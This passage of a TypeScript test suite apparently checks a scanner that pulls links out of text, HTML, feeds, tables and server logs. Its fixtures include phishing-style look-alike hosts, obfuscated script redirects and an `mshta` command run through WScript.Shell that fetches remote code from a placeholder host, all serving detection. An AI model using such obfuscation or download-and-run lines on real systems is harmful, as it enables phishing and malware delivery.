    ["<https://a.example/one/\ntwo?x=1>", "https://a.example/one/two?x=1"],
    [
      `${long} https://a.example/one/\ntwo?x=1 now`,
      "https://a.example/one/",
      "https://a.example/one/two?x=1"
    ],
    [
      `${long} https://paypal-konto-si\ncherheit.example/login`,
      "https://paypal-konto-sicherheit.example/login"
    ],
    [`${long} https://paypal-konto.\nexample/login`, "https://paypal-konto.example/login"],
    [
      "https://a.example/verify?token=abc-\ndef123&x=1",
      "https://a.example/verify?token=abc",
      "https://a.example/verify?token=abc-def123&x=1"
    ],
    [
      "See www.trelba-mund.com/very/long/path/that/the/document/has/cut/\ntwo?x=1 now",
      "www.trelba-mund.com/very/long/path/that/the/document/has/cut/two?x=1"
    ],
    [
      "> https://a.example/verify?token=\n> def123&x=1",
      "https://a.example/verify?token=",
      "https://a.example/verify?token=def123&x=1"
    ],
    // Folded at 75 bytes inside a word.
    [
      `DESCRIPTION:${long.slice(-43)} https://a.example/p\r\n age\\nSee you there`,
      "https://a.example/p",
      "https://a.example/page"
    ]
  ])("is found in %o", (text, ...expected) => {
    const found = linksIn(text, "text")
    assert.includeMembers(
      found.map(({ url }) => url),
      expected.slice(-1)
    )
    assert.isTrue(found.at(-1)?.isJoined)
  })

  it("does not replace it if its host is whole", () =>
    assert.deepStrictEqual(urls("view-source:a.example/x\nabout:b?c=1"), [
      "view-source:a.example/x",
      "view-source:a.example/xabout:b?c=1"
    ]))

  it.each<[text: string, ...urls: ReadonlyArray<string>]>([
    ["microsoft-edge:https://a.exa\nmple/x1", "microsoft-edge:https://a.example/x1"],
    ["https://a.example/aGk\n==", "https://a.example/aGk", "https://a.example/aGk=="],
    // Quoted, and as programs write the text of a PDF.
    ["| https://a-\n| b.example/x", "https://a-b.example/x"],
    ["https://a\n-\nb.example/x now", "https://a-b.example/x"],
    ["https://localhost\n-\nnow", "https://localhost"],
    [`${long} https://a.example/\n2026/12/01\n`, "https://a.example/", "https://a.example/2026/12/01"]
  ])("is joined in %o", (text, ...expected) => assert.deepStrictEqual(urls(text), expected))

  it("is not joined with the next field of a contact", () =>
    assert.deepStrictEqual(
      urls(
        "BEGIN:VCARD\nURL:https://a-shop-with-a-long-nam\n e.example/about-us/our-team/first-name-last-name-and-a-page-with-a-long-name\nEND:VCARD\n"
      ),
      [
        "https://a-shop-with-a-long-name.example/about-us/our-team/first-name-last-name-and-a-page-with-a-long-name"
      ]
    ))

  it.each([
    "https://a.example/x\nThanks for reading",
    "https://a.example/x\nThanks",
    "https://a.example/x\nhttps://b.example/y",
    "https://a.example/x\n\nnext",
    "See https://a.example/x.\nmore",
    "Your parcel: https://www.trelba.com\nA1B2C3D4",
    "API_URL=https://www.trelba.com\nAPI_ID=abc",
    "url = https://www.trelba.com/x\nhost=b.example",
    `1/12/2026, 10:11 - Bob: ${long} https://a.example/x\n1/12/2026, 10:12 - Al: thanks`,
    ` ${long} https://a.example/x\n next words`,
    "https://a.example/x\n==========",
    "ATTACH:https://a.example/x\nORGANIZER;CN=Bob:mailto:bob@b.example"
  ])("is not seen in %o", (text) => assert.isTrue(linksIn(text, "text").every(({ isJoined }) => !isJoined)))
})

describe("links in HTML", () => {
  const found = (html: string) =>
    linksIn(html, "html").map(({ shown, url }): readonly [string, string] => [url, shown])

  it.each<[html: string, ...found: ReadonlyArray<readonly [url: string, shown: string]>]>([
    [
      '<a href="https://a.example/y">https://www.paypal.com/signin</a>',
      ["https://a.example/y", "https://www.paypal.com/signin"]
    ],
    [
      "<A HREF='https://a.example/?x=1&amp;y=2'><b>Pay</b> now</A>",
      ["https://a.example/?x=1&y=2", "Pay now"]
    ],
    ["<a href=https://a.example/x>x</a>", ["https://a.example/x", "x"]],
    ["<form action-xhr='https://a.example/x'>", ["https://a.example/x", ""]],
    ["<a href='a.example/x'>Pay</a> <a href='page.html'>b</a>", ["a.example/x", "Pay"]],
    [
      "<form action='login.do?x=1'><a href='search.do'>x</a> <a href='README.md#usage'>y</a> <a href='a.zip?x=1'>z</a>"
    ],
    ['<a href="//a.example/x"><img src="https://img.example/a.png"></a>', ["https://a.example/x", ""]],
    [
      '<form action="https://a.example/post"><button formaction="https://b.example/post">',
      ["https://a.example/post", ""],
      ["https://b.example/post", ""]
    ],
    ['<meta http-equiv="refresh" content="0; url=https://a.example/r">', ["https://a.example/r", ""]],
    [
      '<a href="#top">top</a> <a href="mailto:a@b.example">mail</a> <a href="/x">x</a> <link href="https://cdn.example/a.css">'
    ],
    [
      '<base href="https://a.example/d/"><a href="login">Sign in</a>',
      ["https://a.example/d/login", "Sign in"]
    ],
    [
      "<p>Open https://a.example/x now</p><script>var u='https://no.example'</script>",
      ["https://a.example/x", "https://a.example/x"]
    ],
    ["<p>https://a.example/<wbr>long</p>", ["https://a.example/long", "https://a.example/long"]],
    ['<a href="ht\ntps://a.example/x">x</a>', ["https://a.example/x", "x"]],
    ['<a href="&#104;ttps://a.example/x">x</a>', ["https://a.example/x", "x"]],
    ['<a href="javascript:alert(1)">x</a>', ["javascript:alert(1)", "x"]],
    [
      '<!-- <a href="https://no.example">x</a> --><a title="a > b" href="https://a.example/x">y</a>',
      ["https://a.example/x", "y"]
    ],
    [
      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://dtd.example/strict.dtd"><?xml-stylesheet href="https://no.example/a.css"?><a href="https://a.example/x">x</a>',
      ["https://a.example/x", "x"]
    ],
    ['<!--><a href="https://a.example/x">x</a><!-- -->', ["https://a.example/x", "x"]],
    ['<!-- a --!><a href="https://a.example/x">x</a><!-- -->', ["https://a.example/x", "x"]],
    [
      '<!--[if mso]><v:roundrect href="https://a.example/outlook"><![endif]--><!--[if !mso]><!--><a href="https://b.example/others">x</a><!--<![endif]-->',
      ["https://a.example/outlook", ""],
      ["https://b.example/others", "x"]
    ],
    [
      '<html><head><title>https://no.example</title><meta http-equiv="refresh" content="0;url=https://a.example/r"><base href="https://b.example/"><body><a href="login">x</a>',
      ["https://a.example/r", ""],
      ["https://b.example/login", "x"]
    ],
    [
      `<script>document.write("<a href='")</script><a href="https://a.example/x">x</a><p title='a'>`,
      ["https://a.example/x", "x"]
    ],
    [
      "<script>location.href = 'https://a.example/1'; var u='https://no.example'</script><b onclick=\"window.open('https://b.example')\">x</b>",
      ["https://a.example/1", ""],
      ["https://b.example", ""]
    ],
    [
      '<iframe srcdoc="&lt;a href=&quot;https://a.example/1&quot;&gt;x&lt;/a&gt;"></iframe><meta http-equiv="refresh" content="0;url&#61;https://b.example">',
      ["https://a.example/1", "x"],
      ["https://b.example", ""]
    ],
    ["<p>https://a.exam<!-- x -->ple/long</p>", ["https://a.example/long", "https://a.example/long"]],
    ['<a href="&#000000000104;ttps&#x00000003a;//a.example/x">x</a>', ["https://a.example/x", "x"]],
    [
      "<p>&raquo;a-b.example&laquo; &ensp;b-c.example&hellip;</p>",
      ["a-b.example", "a-b.example"],
      ["b-c.example", "b-c.example"]
    ],
    ["<p>a-&zwnj;b&#8203;.&rlm;com</p>", ["a-\u200bb\u200b.\u200bcom", "a-\u200bb\u200b.\u200bcom"]],
    ['<a href="https://&bscr;a&ouml;&af;d.example/">x</a>', ["https://ba\u00f6\u200bd.example/", "x"]],
    [
      '<a href="https://a&ZeroWidthSpace;-b.example/?x&raquo;=1">x</a>',
      ["https://a\u200b-b.example/?x&raquo;=1", "x"]
    ],
    ['<meta http-equiv="&#114;efresh" content="0;url=https://a.example/x">', ["https://a.example/x", ""]],
    ['<p><a href="x">x</a><base href="https://a.example/">', ["https://a.example/", ""]],
    ...["b.example/login", "www.b.example/login", "b.example"].map((href): [string, [string, string]] => [
      `<base href="https://a.example/"><a href="${href}">x</a>`,
      [`https://a.example/${href}`, "x"]
    ]),
    [
      '<p><a href="b.example/x">x</a><base href="https://a.example/">',
      ["b.example/x", "x"],
      ["https://a.example/", ""]
    ],
    [
      '<base href="b.example/"><base href="https://a.example/"><a href="x">x</a>',
      ["https://a.example/x", "x"]
    ],
    [
      '<base href="https://a.example/"><a href="tel:123">x</a><a href="telekom/login">Sign in</a>',
      ["https://a.example/telekom/login", "Sign in"]
    ],
    [
      '<svg><script/><a href="https://a.example/"><text>x</text></a><script>y</script></svg>',
      ["https://a.example/", "x"]
    ],
    [
      `<p><!--[if ${"(mso)|".repeat(40)}(mso)]><a href="https://a.example/">x</a><![endif]-->`,
      ["https://a.example/", "x"]
    ],
    [`<p><b onclick="open('https://a.example/')">x</b>`, ["https://a.example/", ""]],
    // Each of these quotes begins no value in a browser.
    ...['<b=">', '<b =">', '<b x=y=">', '<b x=\u00a0">', '</ <b x=">'].map(
      (start): [string, [string, string]] => [
        `<p>${start}<a href='https://a.example/x'>x<b title="">`,
        ["https://a.example/x", "x"]
      ]
    ),
    [
      '<base href="https://a.example/"><base href="https://b.example/"><a href="x">x</a>',
      ["https://b.example/", ""],
      ["https://a.example/x", "x"]
    ],
    ...["textarea", "xmp", "iframe", "noembed", "noframes"].map((name): [string, [string, string]] => [
      `<p><${name}><!--</${name}><a href="https://a.example/x">x</a>-->`,
      ["https://a.example/x", "x"]
    ]),
    [`<p><noscript><p title="</noscript><a href='https://a.example/x'>x</a>">`, ["https://a.example/x", "x"]],
    ['<svg><style><p><a href="https://a.example/x">x</a></style></svg>', ["https://a.example/x", "x"]],
    ['<svg><style/><p><a href="https://a.example/x">x</a>', ["https://a.example/x", "x"]],
    // In a text with tags, a link in angle brackets is not a tag.
    [
      "<p>See <https://a.example/x>, <b.example/y>, <www.c.example> or <d.com> <b><java.version>",
      ...["https://a.example/x", "b.example/y", "www.c.example", "d.com"].map((url): [string, string] => [
        url,
        url
      ])
    ],
    ["<p>L<the plans|https://a.example/x>", ["https://a.example/x", "https://a.example/x"]],
    // It is never closed.
    [
      `<p><a name="top">Bob <a at b.example>${"Hello ".repeat(60)} https://a.example/x`,
      ["https://a.example/x", "https://a.example/x"]
    ],
    // Which of its addresses a script opens cannot be told.
    ...[
      "var u='https://a.example/x'; location.replace(u)",
      "document.write(unescape('%3Ca%20href%3D%22https%3A//a.example/x%22%3E'))",
      "location.href='\\x68\\x74\\u0074\\x70\\x73:\\x2f\\x2fa.example/x'"
    ].map((script): [string, [string, string]] => [
      `<script>${script}</script>`,
      ["https://a.example/x", ""]
    ]),
    ["<script>if (location == x) log('https://no.example')</script>"],
    // Decoded, it is another address.
    [
      "<script>var d = unescape; location = 'https://a.example%2F@b.example/'</script>",
      ["https://a.example%2F@b.example/", ""],
      ["https://a.example/@b.example/", ""]
    ],
    // The number of a line is not a part of the address before it.
    [
      '<p>https://a.example/1<a href="#2">76</a>// b.name<a href="#b">#</a>',
      ...["https://a.example/1", "b.name"].map((url): [string, string] => [url, url])
    ],
    ["<style>/* <a> */ @import url(https://no.example/a.css)</style>"],
    // It is a line of a log, or closed too late.
    ...["", `${"z".repeat(300)}</a>`].map((end): [string, ...Array<[string, string]>] => [
      `body <a href="https://a.example/"> from\nb.example/x ${end}`,
      ["https://a.example/", `from b.example/x ${end}`.trim().slice(0, 300)],
      ["b.example/x", "b.example/x"]
    ]),
    // Programs and exports.
    [
      "<?php header('Location: https://a.example/x'); echo '<form action=\"https://b.example/\">' ?>",
      ["https://a.example/x", "https://a.example/x"],
      ["https://b.example/", ""]
    ],
    [
      "<p><ac:body><![CDATA[curl https://a.example/x]]></ac:body>",
      ["https://a.example/x", "https://a.example/x"]
    ],
    ...['\\"', '\\\\\\"', '\\""', "\\'"].map((quote): [string, [string, string]] => [
      `VALUES ('<a href=${quote}https://a.example/x${quote}>x</a>')`,
      ["https://a.example/x", "x"]
    ]),
    ['<a href="//////////a.example/x">y</a> <a href="//">z</a>', ["https://////////a.example/x", "y"]],
    [
      '<script>new ActiveXObject("WScript.Shell").Run("mshta https://a.example/x")</script>',
      ["https://a.example/x", ""]
    ],
    ...[
      'fetch("HOST"+x)',
      "$.post('HOST', {})",
      '$.ajax({ url: "HOST" })',
      'r.open("POST", "HOST")',
      'form.action = "HOST"',
      'f.setAttribute("action", "HOST")',
      'self["location"]["href"]="HOST"',
      'let u = "HOST"; fetch(u, { method: "POST" })',
      'let u = "HOST"; r.open("POST", u)'
    ].map((script): [string, [string, string]] => [
      `<script>${script.replace("HOST", "https://a.example/x")}</script>`,
      ["https://a.example/x", ""]
    ]),
    [
      '<script>/*url:"//b.example/*/location="https://a.example/x"</script>',
      ["https://b.example/*/location=", ""],
      ["https://a.example/x", ""]
    ],
    ...[
      'fetch("https://" + x)',
      "fetch(`https://\u0024{x}.example/y`)",
      'fetch(`https://\u0024{x}/y`, { method: "POST" })',
      'fetch("https://" + x, { method: "POST" })',
      'tiles("https://{s}.a.example/{z}"); r.open("POST", x)'
    ].map((script): [string] => [`<script>${script}</script>`]),
    ['<a onclick="go(`https://\u0024{x}.example`, `https://` + y)">'],
    ['<script>fetch("/x.pl"); $.get("//a.example/x")</script>', ["https://a.example/x", ""]],
    [
      `<script>f.src="https://a.example/x"; map.set({"url":"https://b.example"}, "b")</script><a onclick="go('https://c.example')">`,
      ["https://c.example", ""]
    ],
    ...["“HOST”", "'HOST'", "%22HOST ", "[HOST]", "/go?to=HOST"].map((value): [string, [string, string]] => [
      `<a href="${value.replace("HOST", "https://a.example/x")}">y</a>`,
      ["https://a.example/x", ""]
    ]),
    ["<a href=“http//a.example/x”>y</a>", ["http//a.example/x", ""]],
    ['<a href="/go?to=https%3A%2F%2Fa.example%2Fx">y</a>', ["https%3A%2F%2Fa.example%2Fx", ""]],
    [
      '<a href="https://a.example&amp;sp">y</a><a href="https://b.example%20/x">z</a>',
      ["https://a.example", "y"],
      ["https://b.example", "z"]
    ],
    [
      '<a href="https://a.example/x<br>Hey">y</a><a href="https://b.example<br>Hey">z</a>',
      ["https://a.example/x<br>Hey", "y"],
      ["https://a.example/x", "y"],
      ["https://b.example", "z"]
    ]
  ])("%o", (html, ...expected) =>
    assert.deepStrictEqual<ReadonlyArray<readonly [string, string]>>(found(html), expected)
  )
})

describe("links in XML", () => {
  it.each<[name: string, xml: string, ...urls: ReadonlyArray<string>]>([
    [
      "OPML",
      '<?xml version="1.0"?><opml><head><title>x</title></head><body><outline text="Feed" xmlUrl="https://a.example/?x=1&amp;y=2" htmlUrl="b.example"/></body></opml>',
      "https://a.example/?x=1&y=2",
      "b.example"
    ],
    [
      "Atom",
      '<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://a.example/"/><content>&lt;a href="https://b.example/?x=1&amp;amp;y=2"&gt;x&lt;/a&gt;</content></feed>\n',
      "https://a.example/",
      "https://b.example/?x=1&y=2"
    ],
    [
      "RSS",
      '<?xml version="1.0"?><rss><title>see https://t.example/</title><link>https://a.example/?x=1&amp;y=2</link><description><![CDATA[<p>Hi <a href="https://b.example/x">x</a> https://c.example/y</p>]]></description><link><![CDATA[https://d.example/?a=1&b=2]]></link></rss>',
      "https://t.example/",
      "https://a.example/?x=1&y=2",
      "https://b.example/x",
      "https://c.example/y",
      "https://d.example/?a=1&b=2"
    ],
    [
      "other XML",
      '<message><bodyText>open https://a.example/x now</bodyText><item url="https://b.example/" id="x.y.z"/></message>',
      "https://a.example/x",
      "https://b.example/"
    ],
    [
      "but not in a page",
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><link href="https://no.example/a.css"/></head><a href="https://a.example/">x</a></html>',
      "https://a.example/"
    ]
  ])("%s", (_, xml, ...expected) => {
    assert.strictEqual(kindOf(xml), "html")
    assert.deepStrictEqual(urls(xml), expected)
  })

  it.each([
    ["a base", '<base href="https://a.example/"><a href="login">x</a>', "https://a.example/login"],
    ["a line break", '<a href="htt&#10;ps://a.example/">x</a>', "https://a.example/"],
    ["a title", '<title><a href="</title><a href="https://a.example/">x</a>', "https://a.example/"],
    ["another address", '<a href="https://a.example/">https://b.example/</a>', "https://a.example/"]
  ])("are those of a page that begins so, with %s", (_, page, expected) => {
    for (const document of [`<x-mail>${page}</x-mail>`, `<?xml version="1.0"?><div>${page}</div>`])
      assert.deepInclude(
        linksIn(document, "html").map(({ shown, url }) => ({ url, isShown: shown !== "" })),
        { url: expected, isShown: true }
      )
  })

  it("are not looked for in a program", () =>
    assert.strictEqual(kindOf("const find = <A>(list: Array<A>) => list // https://a.example/\n"), "text"))
})

describe("links in tables and records", () => {
  it.each<[text: string, kind: string, ...urls: ReadonlyArray<string>]>([
    ["trelba-mund.com\tkit", "csv", "trelba-mund.com"],
    [
      "3\thttps://trelba-mund.com/x\n4\thttps://b.example/y\n",
      "csv",
      "https://trelba-mund.com/x",
      "https://b.example/y"
    ],
    ["id;url;date\n1;https://trelba-mund.com/x;2026\n", "csv", "https://trelba-mund.com/x"],
    [
      'id,url\n1,"https://a.example/x,y"\n2,https://b.example/\n',
      "csv",
      "https://a.example/x,y",
      "https://b.example/"
    ],
    [
      '{"url":"https://trelba-mund.com/x","id":1}\n{"url":"https:\\/\\/b.example\\/y"}\n',
      "json",
      "https://trelba-mund.com/x",
      "https://b.example/y"
    ],
    ['[\n  "trelba-mund.com",\n  "b.example"\n]', "json", "trelba-mund.com", "b.example"],
    // UTF-8 as exports of Facebook write it, and letters that are no UTF-8.
    [
      '{"a":"https://a.example/x\\u00f0\\u009f\\u0098\\u0082","b":"https://b\\u00c3\\u00bccher.example","c":"https://c.example/\\u00e4\\u00f6"}',
      "json",
      ...["https://a.example/x", "https://b\u00fccher.example", "https://c.example/\u00e4\u00f6"]
    ],
    // Requests of Zeek, Caddy, Traefik and nginx; a page of another host is not one.
    ...[
      '{"host":"a.example","uri":"/x?y=1"}',
      '{"request":{"uri":"/x?y=1","host":"a.example","headers":{}}}',
      '{"RequestHost":"a.example","RequestPath":"/x?y=1"}',
      '{"request":"GET /x?y=1 HTTP/1.1","http_host":"a.example","server_name":"_"}',
      '{"http_host":"a.example","server_name":"_","request":"GET /x?y=1 HTTP/1.1"}'
    ].map((line): [string, string, ...Array<string>] => [
      line,
      "json",
      "a.example",
      "http://a.example/x?y=1"
    ]),
    ['{"a":{"host":"a.example"},"b":{"path":"/x"}}', "json", "a.example"],
    // Requests in the names of Envoy, Cloudflare, Elastic and Azure.
    ...[
      ':authority","a":":path',
      'ClientRequestHost","a":"ClientRequestURI',
      'domain","a":"path',
      'url.domain","a":"url.path',
      'site","a":"uri_path',
      'reqHost","a":"reqPath',
      'hostname","a":"pathname',
      'vhost","a":"http_request'
    ].map((names): [string, string, ...Array<string>] => [
      `{"${names.replace('","a":"', '":"a.example","')}":"/x?y=1"}`,
      "json",
      "a.example",
      "http://a.example/x?y=1"
    ]),
    [
      '{"requestUri":"/x","requestQuery":"y=1","host":"a.example","originalHost":"b.example"}',
      "json",
      ...["a.example", "http://a.example/x?y=1", "b.example", "http://b.example/x?y=1"]
    ],
    // Host and page in two columns.
    [
      "time,host,path\n1,a.example,/x?y=1\n2,b.example,/\n3,,/z\n4,192.0.2.7,/z\n",
      "csv",
      ...["a.example", "http://a.example/x?y=1", "b.example", "192.0.2.7", "http://192.0.2.7/z"]
    ],
    [
      'Export of Monday\r\n"path";"cs-host"\r\n"/x";"a.example"\r\n',
      "csv",
      "a.example",
      "http://a.example/x"
    ],
    [
      '\ufeffDate,"Requested Host",Request URI\n1,https://a.example/,/x\n',
      "csv",
      ...["https://a.example/", "https://a.example/x"]
    ],
    [
      "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n#open\t2026\n#fields\tts\thost\turi\n#types\ttime\tstring\tstring\n1.5\ta.example\t/x\n#fields\turi\thost\n/y\tb.example\n",
      "csv",
      ...["a.example", "http://a.example/x", "b.example", "http://b.example/y"]
    ],
    [
      "#Software: IIS\r\n#Fields: date cs-uri-stem cs-uri-query s-port cs(User-Agent) cs-host\r\n2026-11-20 /x y=1 80 Mozilla/5.0+(X) a.example\r\n2026-11-20 /z - 80 - a.example\r\n",
      "csv",
      ...["a.example", "http://a.example/x?y=1", "a.example", "http://a.example/z"]
    ],
    [
      "#Fields: date cs(Host) cs-uri-stem x-host-header\n2026-11-20\tb.example\t/x\ta.example\n",
      "csv",
      ...["b.example", "http://b.example/x", "a.example", "http://a.example/x"]
    ],
    [
      "#Fields: date-time,message-subject,sender\n2026,Pay https://a.example/x,a@b.example\n",
      "csv",
      "https://a.example/x"
    ],
    // Not in the middle of a message.
    [
      "Hi,\n#fields: all\nhttps://a.example/a-long-\npath\n",
      "text",
      ...["https://a.example/a-long-", "https://a.example/a-long-path"]
    ],
    // A line without a time continues a message.
    // A person who writes an address means a link: a chat is no log.
    ["[10:00:01] <bob> open 192.0.2.7\n[10:00:09] <al> yes\n", "text", "192.0.2.7"],
    ...(["[12.05.26, |text", "2026-05-12 [|log"] as const).map((row): [string, string, ...Array<string>] => {
      const [day = "", kind = ""] = row.split("|")
      return [
        `${day}10:15:03] A: https://a.example/a-long-\npath\n${day}10:15:09] B: https://b.example/a-\n${day}10:16:00] A: Yes\n`,
        kind,
        ...["https://a.example/a-long-", "https://a.example/a-long-path", "https://b.example/a-"]
      ]
    }),
    [
      '10:15:03 sent\nGET /x HTTP/1.1\nHost: a.example\n10:15:04 sent\n10:15:05 "GET /y HTTP/1.1" 200 host="b.example"\n',
      "log",
      ...["http://a.example/x", "a.example", "http://b.example/y"]
    ],
    // The address of a client counts only there if a list has it.
    ...(
      [
        ["Jan  2 10:00:00 dnsmasq[5]: query[A] a.example from 192.0.2.1", "a.example", "192.0.2.1"],
        [
          "1677971734.079 12 192.0.2.1 TCP_TUNNEL/200 3 CONNECT a.example:443 - x",
          "192.0.2.1",
          "a.example:443"
        ],
        [
          "<13>CEF:0|V|P|1|1|n|5|src=192.0.2.1 request=https://a.example/x",
          "192.0.2.1",
          "https://a.example/x"
        ]
      ] as const
    ).map(([line, ...links]): [string, string, ...Array<string>] => [
      `${line}\n${line}\n`,
      "log",
      ...links,
      ...links
    ]),
    // Messages.
    ["2026-12-01 10:00:00 Your parcel waits: 192.0.2.1", "text", "192.0.2.1"],
    [
      `[1/12/26, 10:00:00] Al: ${"so ".repeat(20)}https://a.example/x/\nverify?id=1\n\u200e[1/12/26, 10:00:09] Bo: b\n[1/12/26, 10:00:11] Bo: c`,
      "text",
      ...["https://a.example/x/", "https://a.example/x/verify?id=1"]
    ],
    ["10:00:00 is late.\nMeet me at 192.0.2.1/x\nor a.example", "text", "192.0.2.1/x", "a.example"],
    ...["https://a.example/10:00:00", "a.example/?t=10:00:00"].map((link): [string, string, string] => [
      link,
      "text",
      link
    ]),
    ["time\thost\n10:00:00\ta.example\n10:00:01\tb.example\n", "csv", "a.example", "b.example"],
    // Host and page in two fields of a line.
    ['at=info path="/x?y=1" host=a.example status=200', "log", ...["http://a.example/x?y=1", "a.example"]],
    ['id=7 hostname="a.example" url="/x"', "log", ...["a.example", "http://a.example/x"]],
    [
      "LEEF:2.0|A|Proxy|1|2|^|src=192.0.2.1^url=https://a.example/x\nLEEF:2.0|A|Proxy|1|2|^|src=192.0.2.1^url=http://b.example/y\n",
      "log",
      ...["192.0.2.1", "https://a.example/x", "192.0.2.1", "http://b.example/y"]
    ],
    [
      "2026-12-01T10:00:00.000Z INFO 192.0.2.1 GET https://a.example/x\n2026-12-01T10:00:01Z INFO b.example 192.0.2.1\n",
      "log",
      ...["192.0.2.1", "https://a.example/x", "b.example", "192.0.2.1"]
    ],
    [
      "[1764583200] unbound[1:0] info: 192.0.2.1 a.example. A IN\n[1764583201] unbound[1:0] info: 192.0.2.1 b.example. A IN\n",
      "log",
      ...["192.0.2.1", "a.example", "192.0.2.1", "b.example"]
    ],
    ['dstname=a.example arg="/x"', "log", ...["a.example", "http://a.example/x"]],
    ['"GET /x?u=https%3A%2F%2Fa.example%2Fy HTTP/1.1" 302', "log", "https%3A%2F%2Fa.example%2Fy"],
    // A request as it is sent, also in a line of a table.
    [
      "see b'GET /x HTTP/1.1\\r\\nAccept: */*\\r\\nHost: a.example'",
      "text",
      ...["http://a.example/x", "a.example"]
    ],
    ["GET /x HTTP/1.1\nHost: localhost\n", "text"],
    [
      "> GET /x?y=1 HTTP/2\r\n> Accept: */*\r\n> Host: a.example\r\n",
      "text",
      ...["http://a.example/x?y=1", "a.example"]
    ],
    [
      '{"data":"POST /x HTTP/1.1\\r\\nHost: a.example:8080\\r\\n"}',
      "json",
      ...["http://a.example:8080/x", "a.example:8080"]
    ],
    // A setting below a link does not continue it.
    ["[InternetShortcut]\r\nURL=https://a.example/x\r\nIconIndex=0\r\n", "text", "https://a.example/x"],
    [
      "URL=https://a.example/x?y=1&\r\nz=0\r\n",
      "text",
      ...["https://a.example/x?y=1&", "https://a.example/x?y=1&z=0"]
    ],
    [
      `u=https://a.example/x?v=${"a".repeat(60)}\nid=1&z=2 more`,
      "text",
      ...[`https://a.example/x?v=${"a".repeat(60)}`, `https://a.example/x?v=${"a".repeat(60)}id=1&z=2`]
    ],
    // Nor are names of files in Windows links.
    ["Run C:\\x64dbg.com, C:\\tools\\x64dbg.com or u:\\x68ttps://a.example/x", "text", "https://a.example/x"],
    // In a string of JSON, or a cell of a table.
    ...['{"log":"{\\"host\\":\\"a.example\\",\\"path\\":\\"/x\\"}"}'].map(
      (line): [string, string, ...Array<string>] => [line, "json", "a.example", "http://a.example/x"]
    ),
    [
      'id,data\n1,"{""host"":""a.example"",""path"":""/x""}"\n',
      "csv",
      ...["a.example", "http://a.example/x"]
    ],
    ["[{000214A0}]\nURL=https://a.example/x", "json", "https://a.example/x"],
    ['{"path":"/x","headers":{"Host":"a.example"}}', "json", ...["a.example", "http://a.example/x"]],
    ['{"path":"/x","other":{"Host":"a.example"}}', "json", "a.example"],
    // Headers that are pairs, of one request only.
    ['{"x":[{"name":"Host","value":"a.example"}]}\n{"uri":"/x"}', "json", "a.example"],
    [
      '{"headers":[{"name":"Accept","value":"a/b"},{"name":"Host","value":"a.example"}],"uri":"/x","args":"y=1"}',
      "json",
      ...["a.example", "http://a.example/x", "http://a.example/x?y=1"]
    ],
    [
      '{"uri":"/x","headers":[{"name":"Host","value":"a.example"}]}\n{"uri":"/y","headers":[]}\n',
      "json",
      ...["a.example", "http://a.example/x"]
    ],
    [
      '{"uri":"/x","headers":[{"name":"Accept","value":"a/b"}]}\n{"headers":[{"name":"Host","value":"b.example"}]}\n',
      "json",
      "b.example"
    ],
    // Headers that are empty or absent are not those of the next record.
    ['[{"path":"/x","headers":{}},{"host":"a.example"}]', "json", "a.example"],
    ['{"path":"/x","headers":null}\n{"host":"a.example"}\n', "json", "a.example"],
    // Two pages, and a query that the page has, that two fields have, or that has another in it.
    [
      '{"uri":"/x","path":"/y","query":"z=1","host":"a.example"}',
      "json",
      ...["a.example", "http://a.example/x?z=1", "http://a.example/y"]
    ],
    [
      '{"uri":"/x","query":"z=1","query_string":"z=1","host":"a.example"}',
      "json",
      ...["a.example", "http://a.example/x?z=1"]
    ],
    [
      '{"host":"a.example","request_uri":"/x?z=1","query_string":"z=1"}',
      "json",
      ...["a.example", "http://a.example/x?z=1"]
    ],
    [
      '{"uri":"/x","query":"u=//b.example/?z=1","host":"a.example"}',
      "json",
      ...["b.example/?z=1", "a.example", "http://a.example/x?u=//b.example/?z=1"]
    ],
    // Only a `path` may be that of a program.
    ['{"host":"a.example","uri":"/etc/x.php"}', "json", ...["a.example", "http://a.example/etc/x.php"]],
    // In a log between blanks or tabs a quote is a character of its request.
    [
      '#Fields: cs-host cs-uri-query cs-uri-stem\na.example "x /x\nb.example - /y\nc.example "x /z\n',
      "csv",
      ...["a.example", "http://a.example/x", "b.example", "http://b.example/y"],
      ...["c.example", "http://c.example/z"]
    ],
    // Neither a cookie nor a tag is a line of a log, which would be read without what follows it.
    [
      "Set-Cookie: s=1; Domain=a.example; Path=/x\n\nSee https://b.example/a-long-\npath\n",
      "text",
      ...["a.example", "https://b.example/a-long-", "https://b.example/a-long-path"]
    ],
    ['<form domain="a.example" path="/x"><a href="b.example/y">Pay</a></form>', "html", "b.example/y"],
    // Behind comments, and with a dot in a name.
    [
      "# ---\n# Pages\n# 20261101\n# ---\n# ---\n\nHostname,Page path,Views\na.example,/x,12\n",
      "csv",
      ...["a.example", "http://a.example/x"]
    ],
    ["Id,Req. Time,URL,Code\n1,10,https://a.example/x,200\n", "csv", "https://a.example/x"],
    ['a = "https://a.example/x\\0";', "text", ...["https://a.example/x\\0", "https://a.example/x"]],
    [
      "https://a.example/x\u0589 https://b.example/x\u1362 c.example/x\u00b7",
      "text",
      ...["https://a.example/x", "https://b.example/x", "c.example/x"]
    ],
    ['[{"host":"a.example","name":"b"},{"uri":"/x","name":"c"}]', "json", "a.example"],
    // Not the address of a client or server, nor the log that Logstash has read, nor a program.
    ['{"hostname":"a.example","path":"/usr/bin/curl"}', "json", "a.example"],
    ['{"host":"192.0.2.7","uri":"/x"}', "json", "192.0.2.7"],
    ['{"host":"a.example","path":"/var/log/auth.log"}', "json", "a.example"],
    [
      '192.0.2.1 - - [01/Jan/2026:00:00:00 +0000] "GET /x?u=1 HTTP/1.1" 200 12 "https://ref.example/a" "Mozilla/5.0 (compatible; bot/1.0)"',
      "log",
      "https://ref.example/a"
    ],
    [
      'shop.example:443 192.0.2.1 - - [01/Jan/2026] "GET /x HTTP/1.1" 200 1 "-" "curl/8.0"',
      "log",
      "https://shop.example/x"
    ],
    [
      "Report of 2026\nid,url\n1,https://a.example/x\n2,b.example/y,more\n",
      "csv",
      "https://a.example/x",
      "b.example/y"
    ],
    ["Hello Bob,\nsee https://a.example/x,y now\nBye, Al, Eve", "text", "https://a.example/x,y"],
    ...["bad.example", '"bad.example"', "bad.example:80"].map((host): [string, string, string] => [
      `192.0.2.1 - - [x] ${host} "GET /x HTTP/1.1" 200 1 "-" "curl/8.0"`,
      "log",
      "http://bad.example/x"
    ]),
